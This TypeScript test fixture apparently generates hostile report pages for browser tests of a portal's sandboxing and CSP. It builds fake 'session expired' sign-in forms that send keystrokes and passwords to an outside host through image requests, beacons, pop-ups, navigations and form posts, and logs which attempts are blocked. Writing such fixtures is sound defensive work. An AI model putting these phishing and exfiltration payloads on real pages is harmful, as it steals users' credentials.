/**
 * A phishing report for the portal's and the console's browser tests:
 * "sign in again", each keystroke sent out as an image request to `https`, a stylesheet
 * font and background from there, a form posting there, a `<base>` pointing there. The
 * other attacks are buttons (the test clicks them, like a viewer would): a pop-up, a
 * top-window navigation, a navigation of its own frame, a beacon. Results and CSP refusals
 * go to the console as `probe <what> <result>` and `csp-violation <directive> <blocked URL>`;
 * `probe ready <base URI>` once its script ran.
 */
export function hostileReport(https: string): string {
  return `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<script>
  // Before the <base>, so its refusal is seen too.
  document.addEventListener('securitypolicyviolation', function (e) {
    console.log('csp-violation ' + e.effectiveDirective + ' ' + e.blockedURI);
  });
</script>
<base href="${https}/base/"><title>Hostile report</title>
<style>
  @font-face { font-family: stolen; src: url(${https}/font.woff2); }
  .login { font-family: stolen; }
  .login input:focus { background: url(${https}/css-focus.png); }
</style>
</head>
<body>
<h1>Findings</h1>
<section id="consultation-section" class="consultation-section">
  <button id="scheduleBtn" type="button">Schedule a consultation</button>
</section>
<form id="login" class="login" action="${https}/form" method="post">
  <p>Your session has expired. Sign in again to the portal.</p>
  <label>Password <input id="password" name="password" type="password" autocomplete="off"></label>
  <button id="signin" type="submit">Sign in</button>
</form>
<a id="relative" href="relative-link">relative</a>
<button id="popup" type="button">pop-up</button>
<button id="top" type="button">top</button>
<button id="self" type="button">self</button>
<button id="beacon" type="button">beacon</button>
<button id="sentinel" type="button">sentinel</button>
<script>
(function () {
  var https = ${JSON.stringify(https)};
  function on(id, fn) { document.getElementById(id).addEventListener('click', fn); }
  function attempt(name, fn) {
    try { console.log('probe ' + name + ' ' + String(fn())); }
    catch (e) { console.log('probe ' + name + ' threw ' + String(e && e.name)); }
  }
  // One image request per keystroke: what the console's old frame let out.
  document.getElementById('password').addEventListener('input', function (e) {
    new Image().src = https + '/k?c=' + encodeURIComponent(e.data || '');
  });
  on('popup', function () { attempt('popup', function () { return window.open(https + '/popup', '_blank') === null ? 'null' : 'window'; }); });
  on('top', function () { attempt('top', function () { window.top.location.href = https + '/top'; return 'assigned'; }); });
  on('self', function () { attempt('self', function () { window.location.href = https + '/self'; return 'assigned'; }); });
  on('beacon', function () { attempt('beacon', function () { return navigator.sendBeacon(https + '/beacon', 'stolen'); }); });
  // For the framer: posted to the top window after the bridge's own click handler ran.
  on('scheduleBtn', function () { window.top.postMessage({ type: 'sentinel' }, '*'); });
  console.log('probe ready ' + document.baseURI);
})();
</script>
</body>
</html>
`;
}

/**
 * A fake sign-in form whose scripts try to carry the password out of a shared report
 * in the address of something that leaves the frame: on each keystroke a pop-up
 * (`/input?p=`); on "Sign in" (its click, and the submit event, which a sandbox without
 * allow-forms never fires) a pop-up (`/open?p=`), the top window (`/top?p=`) and its own frame
 * (`/location?p=`), then the form's own GET submission (`/submit?user=&password=`). Results go
 * to the console as `exfil <how> <result>`; `exfil ready` once its script ran.
 */
export function exfiltratingSignIn(https: string): string {
  return `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Sign in</title></head>
<body>
<h1>Your session has expired</h1>
<form id="login" action="${https}/submit" method="get">
  <label>E-mail <input id="user" name="user" autocomplete="off"></label>
  <label>Password <input id="password" name="password" type="password" autocomplete="off"></label>
  <button id="signin" type="submit">Sign in</button>
</form>
<script>
(function () {
  var https = ${JSON.stringify(https)};
  var password = document.getElementById('password');
  function attempt(how, fn) {
    try { console.log('exfil ' + how + ' ' + String(fn())); }
    catch (e) { console.log('exfil ' + how + ' threw ' + String(e && e.name)); }
  }
  function popup(path) {
    return function () { return window.open(https + path + encodeURIComponent(password.value), '_blank') === null ? 'null' : 'window'; };
  }
  password.addEventListener('input', function () { attempt('open-input', popup('/input?p=')); });
  function signIn() {
    var p = encodeURIComponent(password.value);
    attempt('open-submit', popup('/open?p='));
    attempt('top', function () { window.top.location.href = https + '/top?p=' + p; return 'assigned'; });
    attempt('location', function () { window.location.href = https + '/location?p=' + p; return 'assigned'; });
  }
  // The form's own submission follows the click, to /submit?user=...&password=...
  document.getElementById('signin').addEventListener('click', signIn);
  document.getElementById('login').addEventListener('submit', signIn);
  console.log('exfil ready');
})();
</script>
</body>
</html>
`;
}
